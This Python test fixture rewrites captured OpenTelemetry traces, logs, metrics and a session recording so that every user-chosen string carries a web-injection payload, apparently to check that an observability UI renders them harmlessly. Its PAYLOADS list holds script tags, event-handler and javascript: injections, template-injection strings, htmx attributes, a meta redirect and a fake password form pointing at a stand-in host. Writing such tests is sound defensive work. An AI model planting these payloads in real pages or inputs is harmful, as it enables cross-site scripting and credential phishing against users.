"""A captured session in which every word that somebody chose carries something that would run if it were no text."""

import json
import zlib
from collections.abc import Iterator
from io import BytesIO
from typing import Any

from django.conf import settings
from livekit.protocol.metrics import MetricsRecordingHeader
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.collector.metrics.v1.metrics_service_pb2 import ExportMetricsServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord
from opentelemetry.proto.trace.v1.trace_pb2 import Span, Status

from observability.recordings.form import read_form
from tests.captured import CapturedRequest, captured
from tests.recordings.uploads import Part, contents, form_of

RUN = "python/1.8.9_full"
ELSEWHERE = "//evil.example"
PAYLOADS = [
    "<script>window.pwned=1</script>",
    f'"><img src={ELSEWHERE}/i.png onerror=window.pwned=1>',
    f"<svg onload=window.pwned=1><image href={ELSEWHERE}/s.png /></svg>",
    "' autofocus tabindex=0 onfocus=window.pwned=1 x='",
    "--></title></style></textarea></template><script>window.pwned=1</script>",
    f"[a](javascript:window.pwned=1) ![b]({ELSEWHERE}/m.png)",
    "{{constructor.constructor('window.pwned=1')()}}{% now 'Y' %}${window.pwned=1}",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "javascript:window.pwned=1//",
    f"<a href=javascript:window.pwned=1 hx-get={ELSEWHERE}/h hx-trigger=load>x</a>",
    "<b hx-on:load=window.pwned=1 hx-vals='js:{a:window.pwned=1}'>x</b>",
    f"<base href={ELSEWHERE}/><link rel=stylesheet href={ELSEWHERE}/c.css>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f"<form action={ELSEWHERE}><input type=password name=p><button>Sign in</button></form>",
    "<template shadowrootmode=open><script>window.pwned=1</script></template>",
    "<session-view><copy-button value=x></copy-button></session-view>\u202egnp.exe",
]
KEPT_KEYS = {"type", "role", "created_at", "lk.eou.outcome", "lk.eou.source", "chat.item.type"}
"""Words by which a record is recognised; with others it would be another record, as the last of `own_spans` are."""
KEPT_SCOPES = {"chat_history", "evaluations"}


def told(text: str) -> str:
    """The same for the same text, so that ids still name the same thing."""
    return f"{text} {payload_for(text)}"


def payload_for(text: str) -> str:
    return PAYLOADS[zlib.crc32(text.encode()) % len(PAYLOADS)]


def hostile_uploads() -> Iterator[tuple[str, bytes]]:
    """Signal and body, in the order in which they were captured; recordings last."""
    for request in captured(RUN):
        if request.signal != "recordings":
            yield request.signal, POISONED[request.signal](request)
    yield "recordings", recording()


def traces(request: CapturedRequest) -> bytes:
    export = ExportTraceServiceRequest.FromString(request.inflated)
    for group in export.resource_spans:
        poison_attributes(group.resource.attributes)
        for scope in group.scope_spans:
            for span in scope.spans:
                poison_span(span)
            if any(span.name == "agent_session" for span in scope.spans):
                scope.spans.extend(own_spans(scope.spans[0]))
    return export.SerializeToString()


def poison_span(span: Span) -> None:
    poison_attributes(span.attributes)
    span.attributes.append(hostile_attribute(span.name))
    span.status.message = span.status.message and told(span.status.message)
    for event in span.events:
        poison_attributes(event.attributes)


def own_spans(beside: Span) -> Iterator[Span]:
    """The customer's own: whatever they like for a name, for keys, for values, for errors."""
    for number, payload in enumerate(PAYLOADS):
        span = Span(trace_id=beside.trace_id, span_id=(0xBAD << 48 | number).to_bytes(8), name=payload)
        span.start_time_unix_nano = beside.start_time_unix_nano + number * 10**9
        span.end_time_unix_nano = span.start_time_unix_nano + 5 * 10**8
        span.attributes.extend(
            attribute for attribute in beside.attributes if attribute.key in {"job_id", "room_id"}
        )
        span.attributes.append(hostile_attribute(payload))
        span.status.code, span.status.message = Status.STATUS_CODE_ERROR, payload
        span.events.add(name=payload, time_unix_nano=span.start_time_unix_nano)
        yield span


def logs(request: CapturedRequest) -> bytes:
    export = ExportLogsServiceRequest.FromString(request.inflated)
    for group in export.resource_logs:
        poison_attributes(group.resource.attributes)
        for scope in group.scope_logs:
            is_kept = scope.scope.name in KEPT_SCOPES
            for record in scope.log_records:
                poison_record(record, is_kept)
            scope.scope.name = scope.scope.name if is_kept else told(scope.scope.name)
    return export.SerializeToString()


def poison_record(record: LogRecord, is_kept: bool) -> None:
    """What a record is, its scope and its body say; all else is somebody's."""
    poison_attributes(record.attributes, kept={"logger.name"} if is_kept else set())
    record.attributes.append(hostile_attribute(record.body.string_value))
    if not is_kept:
        poison_value(record.body)
    record.severity_text = record.severity_text and told(record.severity_text)


def metrics(request: CapturedRequest) -> bytes:
    export = ExportMetricsServiceRequest.FromString(request.inflated)
    for group in export.resource_metrics:
        for scope in group.scope_metrics:
            for metric in scope.metrics:
                data = getattr(metric, metric.WhichOneof("data"))
                for point in data.data_points:
                    poison_attributes(point.attributes)
                metric.name, metric.unit = told(metric.name), told(metric.unit)
    return export.SerializeToString()


def recording() -> bytes:
    [request] = [each for each in captured(RUN) if each.signal == "recordings"]
    with read_form(
        BytesIO(request.body), content_type=request.content_type, spool_dir=settings.SPOOL_DIR
    ) as form:
        parts = contents(form)
    header = MetricsRecordingHeader.FromString(parts["header"])
    header.job_id, header.room_id = told(header.job_id), told(header.room_id)
    if header.session_summary:
        header.session_summary = poisoned_text(header.session_summary)
    history = json.dumps(poisoned_json(json.loads(parts["chat_history"]))).encode()
    return form_of(
        Part("header", header.SerializeToString(), "header.binpb"),
        Part("chat_history", history, "chat_history.json"),
        Part("audio", parts["audio"], "recording.ogg"),
    )


def poison_attributes(attributes: Any, kept: set[str] = frozenset()) -> None:  # type: ignore[assignment]
    for attribute in attributes:
        if attribute.key not in KEPT_KEYS | kept:
            poison_value(attribute.value)


def poison_value(value: AnyValue) -> None:
    match value.WhichOneof("value"):
        case "string_value":
            value.string_value = poisoned_text(value.string_value)
        case "array_value":
            for item in value.array_value.values:
                poison_value(item)
        case "kvlist_value":
            poison_attributes(value.kvlist_value.values)


def poisoned_text(text: str) -> str:
    """JSON stays JSON."""
    if not text or text.isdigit():
        return text
    if text[0] in "{[":
        try:
            return json.dumps(poisoned_json(json.loads(text)))
        except ValueError:
            pass
    return told(text)


def poisoned_json(value: Any) -> Any:
    if isinstance(value, dict):
        poisoned = {key: inner if key in KEPT_KEYS else poisoned_json(inner) for key, inner in value.items()}
        return {**poisoned, PAYLOADS[0]: PAYLOADS[1]}
    if isinstance(value, list):
        return [poisoned_json(inner) for inner in value]
    return poisoned_text(value) if isinstance(value, str) else value


def hostile_attribute(about: str) -> KeyValue:
    return KeyValue(key=payload_for(about), value=AnyValue(string_value=told(about)))


POISONED = {"traces": traces, "logs": logs, "metrics": metrics}
